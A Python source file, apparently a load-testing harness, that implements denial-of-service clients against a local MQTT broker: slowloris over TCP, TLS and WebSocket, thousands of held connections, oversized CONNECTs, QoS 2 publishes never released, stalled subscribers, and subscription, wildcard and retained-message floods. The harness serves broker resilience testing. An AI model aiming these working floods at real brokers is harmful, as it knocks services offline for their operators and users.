"""Clients that a broker should not have: `python3 -m runner.attacker KIND PORT SECONDS`, run beside a client that is measured.

Says `started` on a line of its own once the attack is under way, and prints what it did as one JSON object. Everything goes to
127.0.0.1, and ends with the time given.
"""

import asyncio
import contextlib
import json
import os
import random
import socket
import ssl
import struct
import sys

HOST = "127.0.0.1"


def text(value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack("!H", len(data)) + data


def packet(first, body):
    length, size = b"", len(body)
    while True:
        length += bytes([size & 0x7F | (0x80 if size > 0x7F else 0)])
        size >>= 7
        if not size:
            return bytes([first]) + length + body


def connect(name, clean=True, keep_alive=0, properties=b""):
    flags = 2 if clean else 0
    if not properties:
        return packet(0x10, text("MQTT") + bytes([4, flags]) + struct.pack("!H", keep_alive) + text(name))
    length = packet(0, properties)[1:len(packet(0, properties)) - len(properties)]
    return packet(0x10, text("MQTT") + bytes([5, flags]) + struct.pack("!H", keep_alive) + length + properties + text(name))


def publish(topic, payload, qos=0, identifier=0, retain=False):
    head = text(topic) + (struct.pack("!H", identifier) if qos else b"")
    return packet(0x30 | qos << 1 | int(retain), head + payload)


def subscribe(identifier, filters, qos=0):
    return packet(0x82, struct.pack("!H", identifier) + b"".join(text(name) + bytes([qos]) for name in filters))


class Attack:
    """What all have: a port, an end, and counters of what happened."""

    def __init__(self, port, seconds):
        self.port, self.seconds = port, seconds
        self.counts = {}

    def count(self, what, by=1):
        self.counts[what] = self.counts.get(what, 0) + by

    async def open(self, receive_buffer=None):
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, (HOST, self.port))
        self.count("connections")
        return sock

    async def send(self, sock, data):
        await asyncio.get_running_loop().sock_sendall(sock, data)

    async def receive(self, sock, size=65536):
        data = await asyncio.get_running_loop().sock_recv(sock, size)
        if not data:
            raise ConnectionError("closed")
        return data

    async def again(self, body, pause=0.05):
        """That client, and when it is thrown out, again."""
        while True:
            try:
                await body()
            except OSError:
                self.count("closed")
            await asyncio.sleep(pause)

    async def drip(self, data, every=0.5):
        """A client that takes half a second for each byte."""
        sock = await self.open()
        with contextlib.closing(sock):
            for byte in data:
                await self.send(sock, bytes([byte]))
                await asyncio.sleep(every)
            await self.receive(sock)

    async def slow(self, data, clients=1000):
        return [self.apart(self.again(lambda: self.drip(data)), 0.5) for _ in range(clients)]

    async def apart(self, body, within):
        """Later, so that many of a kind don't do all at once."""
        await asyncio.sleep(random.random() * within)
        await body

    # Each returns the coroutines that go on until the time is over.

    async def slowloris(self):
        return await self.slow(connect("slow" * 20))

    async def slowloris_tls(self):
        outgoing = ssl.MemoryBIO()
        session = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
        with contextlib.suppress(ssl.SSLWantReadError):
            session.do_handshake()
        return await self.slow(outgoing.read())

    async def slowloris_websocket(self):
        return await self.slow(b"GET /mqtt HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n" + b"X-Slow: " + b"y" * 4000)

    async def held(self, clients=9000):
        """Connections that say CONNECT and nothing more."""
        socks = []
        for index in range(clients):
            sock = await self.open()
            socks.append(sock)
            await self.send(sock, connect(f"held-{index}"))
            if index % 100 == 99:
                await self.receive(sock)
        return [asyncio.sleep(self.seconds, socks)]

    async def large_connects(self):
        """CONNECTs of a mebibyte, twenty a second."""
        user = b"\x26" + text("k" * 60000) + text("v" * 60000)
        data = connect("large", properties=user * 8 + b"\x26" + text("k" * 40000) + text("v" * 30000))

        async def one():
            sock = await self.open()
            with contextlib.closing(sock):
                await self.send(sock, data)
                await self.receive(sock)
        return [self.again(one, 0.2) for _ in range(4)]

    async def no_release(self):
        """Fifty publishers at QoS 2 that never send PUBREL."""
        async def one(index):
            sock = await self.open()
            with contextlib.closing(sock):
                await self.send(sock, connect(f"greedy-{index}"))
                for identifier in range(1, 65536):
                    await self.send(sock, publish("attack/x", b"z" * 200, 2, identifier))
                    self.count("published")
                    await asyncio.sleep(0.05)
        return [self.apart(self.again(lambda index=index: one(index)), 0.05) for index in range(50)]

    async def stalled(self, subscribers=50, publishers=100, rate=2000):
        """Subscribers that stop reading, while a hundred publishers go on."""
        for index in range(subscribers):
            sock = await self.open(receive_buffer=4096)
            await self.send(sock, connect(f"stalled-{index}") + subscribe(1, ["attack/#"], 1))
            self.counts.setdefault("kept", []).append(sock)

        async def one(index):
            sock = await self.open()
            with contextlib.closing(sock):
                await self.send(sock, connect(f"loud-{index}"))
                while True:
                    await self.send(sock, publish(f"attack/{index}", b"z" * 1024))
                    self.count("published")
                    await asyncio.sleep(publishers / rate)
        return [self.apart(self.again(lambda index=index: one(index)), 0.05) for index in range(publishers)]

    async def subscribe_flood(self):
        """Sessions that subscribe to ever new filters, a hundred a packet."""
        async def one(index):
            sock = await self.open()
            with contextlib.closing(sock):
                await self.send(sock, connect(f"curious-{index}"))
                await self.receive(sock)
                number = 0
                while True:
                    filters = [f"attack/{index}/{number + offset}/+/x/#" for offset in range(100)]
                    await self.send(sock, subscribe(1 + number // 100 % 65000, filters))
                    await self.receive(sock)
                    self.count("filters", 100)
                    number += 100
                    await asyncio.sleep(0.1)
        return [self.apart(self.again(lambda index=index: one(index)), 0.1) for index in range(10)]

    async def wildcard_storm(self):
        """Nine hundred overlapping filters of one client, and messages that match them all."""
        levels = ["+/" * count + "#" for count in range(12)]
        filters = [f"attack/{level}" for level in levels]
        filters += ["attack/" + "/".join("+" if index >> bit & 1 else "s" for bit in range(10)) for index in range(880)]
        sock = await self.open()
        await self.send(sock, connect("storm"))
        await self.receive(sock)
        for first in range(0, len(filters), 100):
            await self.send(sock, subscribe(1 + first, filters[first:first + 100]))
            await self.receive(sock)

        async def read():
            while True:
                self.count("received_bytes", len(await self.receive(sock, 1 << 20)))

        async def one():
            other = await self.open()
            with contextlib.closing(other):
                await self.send(other, connect("wind"))
                while True:
                    await self.send(other, publish("attack/" + "/".join("s" * 10), b"z"))
                    self.count("published")
                    await asyncio.sleep(0.02)
        return [read(), self.again(one)]

    async def retained_flood(self):
        """Retained messages on ever new topics, two thousand a second."""
        async def one(index):
            sock = await self.open()
            with contextlib.closing(sock):
                await self.send(sock, connect(f"hoarder-{index}"))
                number = 0
                while True:
                    await self.send(sock, b"".join(
                        publish(f"attack/{index}/{number + offset}", b"z" * 100, retain=True) for offset in range(20)))
                    self.count("published", 20)
                    number += 20
                    await asyncio.sleep(0.1)
        return [self.apart(self.again(lambda index=index: one(index)), 0.1) for index in range(10)]

    async def run(self, kind):
        tasks = [asyncio.ensure_future(body) for body in await getattr(self, kind)()]
        print("started", flush=True)
        await asyncio.wait(tasks, timeout=self.seconds)
        for task in tasks:
            task.cancel()
        self.counts.pop("kept", None)
        print(json.dumps(self.counts), flush=True)
        # The sockets end with the process.
        os._exit(0)


if __name__ == "__main__":
    asyncio.run(Attack(int(sys.argv[2]), float(sys.argv[3])).run(sys.argv[1]))
